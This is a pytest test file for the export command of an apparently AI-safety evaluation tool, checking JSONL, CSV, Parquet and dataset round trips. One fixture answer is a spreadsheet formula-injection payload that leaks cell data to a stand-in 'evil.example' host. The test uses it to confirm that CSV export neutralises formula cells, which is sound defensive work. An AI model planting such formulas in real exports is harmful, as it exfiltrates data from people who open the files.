"""`polysafe export`: one row per item, round-tripped through JSONL, CSV, Parquet and a Hugging Face dataset.

The run is real: prompts go through the engine to the fake OpenAI endpoint, an extraction step and a scoring
judge, and land in a store. The expected rows are what the store holds, never written out by hand.
"""

from __future__ import annotations

import asyncio
import csv
import json
import subprocess
import sys
from pathlib import Path
from typing import Sequence

import pytest
from typer.testing import CliRunner

from fakes import Reply, last_user_text
from polysafe.attacks.base import Attack, AttackChain, AttackedPrompt
from polysafe.engine.runner import EvalTask, Scenario, run_eval
from polysafe.engine.store import ItemRecord, RunRecord, Store
from polysafe.judges.base import Judge
from polysafe.models import ModelOptions, load_model
from polysafe.report.export import EXPORT_COLUMNS, export_rows, read_csv
from polysafe.types import Completion, JudgeInput, Prompt, Verdict

# What the fake model answers to each prompt: the hard cases for every format.
ANSWERS = {
    "q-quote": 'He said "stop", then:\nline two\r\nline three, with a comma',
    "q-formula": '=HYPERLINK("http://evil.example/x?"&A1,"click me")',
    "q-plus": "+1 and -1 and @SUM(A1:A9)",
    "q-apostrophe": "'=not a formula, already quoted",
    "q-bengali": "ধাপ ১: বোমা নয়। 中文回答。 عربى — OUTPUT: প্রথম ধাপ",
    "q-tab": "\tindented\tanswer",
}
LENGTH_PROMPT = "q-long"
ERROR_PROMPT = "q-fails"


def length_body(text: str) -> bytes:
    return json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "length"}],
                       "usage": {"prompt_tokens": 11, "completion_tokens": 256}}).encode()


def reply(body: dict):
    user = last_user_text(body)
    key = user.split("::")[-1].strip()
    if key == LENGTH_PROMPT:
        return Reply(raw=length_body("a very long answer that was cut at max_toke"))
    if key == ERROR_PROMPT:
        return Reply(status=400, raw=b'{"error": {"message": "bad request"}}')
    return ANSWERS[key]


class Frame(Attack):
    """Wraps the prompt (so the prompt sent differs from the English source); keeps what follows 'OUTPUT:'."""

    spec = "frame"

    def transform(self, item: AttackedPrompt) -> AttackedPrompt:
        return item.evolve(self.spec, text=f"Complete the code ::{item.text}")

    def extract(self, response: str) -> str:
        return response.split("OUTPUT:", 1)[-1].strip()


class ScoreJudge(Judge):
    spec = identity = "score-by-length"

    async def judge(self, items: Sequence[JudgeInput]) -> list[Verdict]:
        return [Verdict("unsafe" if len(i.response) > 30 else "safe", score=5 if len(i.response) > 30 else 1,
                        rationale=f"judged {len(i.response)} chars, \"quoted\"\nsecond line") for i in items]


@pytest.fixture
def store_run(tmp_path, fake_openai) -> tuple[Path, str]:
    server = fake_openai(reply)
    keys = [*ANSWERS, LENGTH_PROMPT, ERROR_PROMPT]
    prompts = [Prompt(key, key, "bn" if key == "q-bengali" else "en", category="weapons" if key == "q-formula" else None,
                      english=f"English source of {key}" if key == "q-bengali" else None, tags=("Violence & incitement",))
               for key in keys]
    task = EvalTask("codeattack:advbench", prompts, [Scenario("python_list", AttackChain([Frame()]))])
    db = tmp_path / "results.db"

    async def go():
        model = load_model(f"openai:fake@{server.url}", ModelOptions(max_retries=0, backoff_base=0.01))
        with Store(db) as store:
            await run_eval(task, model, ScoreJudge(), store, run_name="export-run")
        await model.aclose()

    asyncio.run(go())
    return db, "export-run"


def stored_rows(db: Path, run: str) -> list[dict]:
    with Store(db) as store:
        return export_rows(store.get_run(run), store.results(run))


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "polysafe.cli", *args], capture_output=True, text=True, timeout=120)


def test_rows_hold_what_was_sent_answered_and_judged(store_run):
    db, run = store_run
    rows = {r["prompt_id"]: r for r in stored_rows(*store_run)}
    assert [name for name, _ in EXPORT_COLUMNS] == list(rows["q-quote"])
    bengali = rows["q-bengali"]
    assert bengali["english_source"] == "English source of q-bengali" and bengali["prompt"] == "Complete the code ::q-bengali"
    assert bengali["response"] == ANSWERS["q-bengali"] and bengali["extracted"] == "প্রথম ধাপ"
    assert bengali["language"] == "bn" and bengali["tier"] == "LRL" and bengali["back_translation"] is None
    assert rows["q-quote"]["extracted"] is None  # the extraction changed nothing: not repeated
    assert (rows["q-quote"]["label"], rows["q-quote"]["score"]) == ("unsafe", 5) and rows["q-plus"]["score"] == 1
    assert rows["q-formula"]["category"] == "weapons" and rows["q-quote"]["tags"] == ["Violence & incitement"]
    assert rows["q-quote"]["prompt_tokens"] == 3 and rows["q-quote"]["completion_tokens"] == len(ANSWERS["q-quote"].split())
    assert rows["q-quote"]["finish_reason"] == "stop"
    long = rows[LENGTH_PROMPT]
    assert (long["finish_reason"], long["prompt_tokens"], long["completion_tokens"]) == ("length", 11, 256)
    failed = rows[ERROR_PROMPT]
    assert failed["label"] == "error" and failed["score"] is None and "400" in failed["error"] and failed["response"] is None
    assert {r["run"] for r in rows.values()} == {run} and {r["benchmark"] for r in rows.values()} == {"codeattack"}
    assert [r["item"] for r in stored_rows(*store_run)] == list(range(8))


def test_jsonl_round_trip(store_run, tmp_path):
    from polysafe.cli import app

    db, run = store_run
    out = tmp_path / "rows.jsonl"
    result = CliRunner().invoke(app, ["export", run, "--format", "jsonl", "--out", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == str(out)
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 8 and [json.loads(line) for line in lines] == stored_rows(db, run)
    assert "ধাপ" in out.read_text(encoding="utf-8")  # non-Latin text written as itself, not \\u escapes
    piped = CliRunner().invoke(app, ["export", run, "--out", "-", "--db", str(db)])
    assert [json.loads(line) for line in piped.output.splitlines()] == stored_rows(db, run)


def test_csv_round_trip_keeps_newlines_quotes_scripts_and_disarms_formulas(store_run, tmp_path):
    from polysafe.cli import app

    db, run = store_run
    out = tmp_path / "rows.csv"
    result = CliRunner().invoke(app, ["export", run, "--format", "csv", "--out", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert read_csv(out) == stored_rows(db, run)
    # what a spreadsheet sees: the raw cells, read by the standard csv module
    with out.open(encoding="utf-8", newline="") as handle:
        raw = {r["prompt_id"]: r for r in csv.DictReader(handle)}
    assert raw["q-formula"]["response"] == "'" + ANSWERS["q-formula"]
    assert raw["q-plus"]["response"] == "'" + ANSWERS["q-plus"] and raw["q-tab"]["response"] == "'" + ANSWERS["q-tab"]
    assert raw["q-apostrophe"]["response"] == "'" + ANSWERS["q-apostrophe"]  # so that reading back is unambiguous
    assert raw["q-quote"]["response"] == ANSWERS["q-quote"] and raw["q-bengali"]["response"] == ANSWERS["q-bengali"]
    assert raw["q-quote"]["rationale"].count("\n") == 1 and raw["q-quote"]["tags"] == '["Violence & incitement"]'
    formula_cells = [cell for r in raw.values() for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formula_cells == []


def test_parquet_round_trip(store_run, tmp_path):
    import pyarrow.parquet as pq

    db, run = store_run
    out = tmp_path / "rows.parquet"
    done = cli("export", run, "--format", "parquet", "--out", str(out), "--db", str(db))
    assert done.returncode == 0, done.stderr
    table = pq.read_table(out)
    assert table.to_pylist() == stored_rows(db, run)
    assert str(table.schema.field("score").type) == "double" and str(table.schema.field("tags").type.value_type) == "string"


def test_hugging_face_dataset_round_trip(store_run, tmp_path):
    import datasets

    from polysafe.cli import app

    db, run = store_run
    folder = tmp_path / "hf"
    result = CliRunner().invoke(app, ["export", run, "--hf", str(folder), "--db", str(db)])
    assert result.exit_code == 0, result.output
    default = db.parent / "exports" / "export-run.jsonl"  # the JSONL goes beside the store unless --out says otherwise
    assert result.output.split() == [str(default), str(folder)] and default.is_file()
    loaded = datasets.load_from_disk(str(folder))
    assert loaded.num_rows == 8 and loaded.to_list() == stored_rows(db, run)


def test_back_translation_is_its_own_column(tmp_path):
    """A back-translated run: the judge's English text is exported as back_translation (outside English)."""
    with Store(tmp_path / "b.db") as store:
        store.save_run(RunRecord("bt", "multijail", "openai:m", "llm:openai:j+back-translate:llm:openai:t",
                                 {"back_translate": True, "generation": {"temperature": 0.0, "max_tokens": 256}}))
        items, verdicts = [], []
        for position, (language, response, judged) in enumerate([("sw", "Hatua ya kwanza", "Step one"), ("en", "No.", "No.")]):
            items.append(ItemRecord(f"i{position}", position, "7", language, "unintentional", "none", None, (), "Query",
                                    response, f"r{position}"))
            store.put_response(f"r{position}", "openai:m", {}, Completion(response, 4, 2, "stop"))
            verdicts.append((f"v{position}", "llm", judged, Verdict("unsafe", rationale="why")))
        store.add_items("bt", items)
        store.put_verdicts(verdicts)
        store.set_verdict_keys("bt", [("i0", "v0"), ("i1", "v1")])
        rows = export_rows(store.get_run("bt"), store.results("bt"))
    assert (rows[0]["back_translation"], rows[0]["extracted"], rows[0]["response"]) == ("Step one", None, "Hatua ya kwanza")
    assert (rows[1]["back_translation"], rows[1]["extracted"]) == (None, None)


def test_bad_requests_are_one_line_errors(store_run, tmp_path):
    db, run = store_run
    missing = cli("export", "no-such-run", "--db", str(db))
    assert missing.returncode == 2 and "no run named 'no-such-run'" in missing.stderr and "Traceback" not in missing.stderr
    bad = cli("export", run, "--format", "xlsx", "--db", str(db))
    assert bad.returncode == 2 and "unknown format 'xlsx'" in bad.stderr
    stdout_parquet = cli("export", run, "--format", "parquet", "--out", "-", "--db", str(db))
    assert stdout_parquet.returncode == 2 and "parquet cannot go to stdout" in stdout_parquet.stderr
    blocked = tmp_path / "a-file"
    blocked.write_text("not a folder")
    unwritable = cli("export", run, "--out", str(blocked / "rows.jsonl"), "--db", str(db))
    assert unwritable.returncode == 1 and "cannot write the export" in unwritable.stderr
    assert len(unwritable.stderr.strip().splitlines()) == 1 and "Traceback" not in unwritable.stderr


def test_rows_say_what_produced_them_and_missing_values_are_null(store_run, tmp_path):
    import datetime as dt

    import pyarrow.parquet as pq

    import polysafe

    db, run = store_run
    rows = {r["prompt_id"]: r for r in stored_rows(db, run)}
    quote = rows["q-quote"]
    with Store(db) as store:
        config = store.get_run(run).config
    assert quote["model_identity"] == config["model_identity"] and len(quote["model_identity"]) == 16
    assert quote["dtype"] is None  # an endpoint: its dtype is the server's own
    assert json.loads(quote["generation"]) == config["generation"] and quote["polysafe_version"] == polysafe.__version__
    assert dt.datetime.fromisoformat(quote["run_created"]).tzinfo is not None
    assert (quote["sample"], quote["seed"]) == (0, config["generation"]["seed"])
    out = tmp_path / "rows.jsonl"
    assert cli("export", run, "--out", str(out), "--db", str(db)).returncode == 0
    failed = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()][-1]
    assert failed["prompt_id"] == ERROR_PROMPT and failed["response"] is None and '"response": null' in out.read_text()
    parquet = tmp_path / "rows.parquet"
    assert cli("export", run, "-f", "parquet", "--out", str(parquet), "--db", str(db)).returncode == 0
    table = pq.read_table(parquet).to_pylist()
    assert table[-1]["response"] is None and table[0]["back_translation"] is None and table[0]["polysafe_version"]


def test_a_local_model_run_exports_its_dtype(tmp_path):
    from polysafe.engine.runner import model_dtype

    class Local:
        def resolved_dtype(self):
            return "bfloat16"

    assert model_dtype(Local()) == "bfloat16" and model_dtype(object()) is None
